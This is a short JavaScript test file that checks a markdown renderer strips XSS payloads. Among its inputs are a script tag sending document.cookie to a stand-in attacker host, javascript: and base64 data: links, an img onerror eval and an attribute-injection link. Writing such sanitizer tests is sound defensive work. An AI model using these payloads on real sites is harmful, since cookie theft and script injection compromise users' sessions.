import test from 'node:test';
import assert from 'node:assert/strict';
import { render } from '../dist/renderer.min.js';

const attacks = [
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
  '[x](javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<img src=x onerror=eval(atob("YWxlcnQoMSk="))>',
  '[x](https://a.example/"onmouseover="alert(1))',
];

for (const a of attacks) {
  test(a.slice(0, 30), () => {
    const html = render(a);
    assert.ok(!/<script|<img|href="(javascript|data):|" *onmouseover="/i.test(html), html);
  });
}
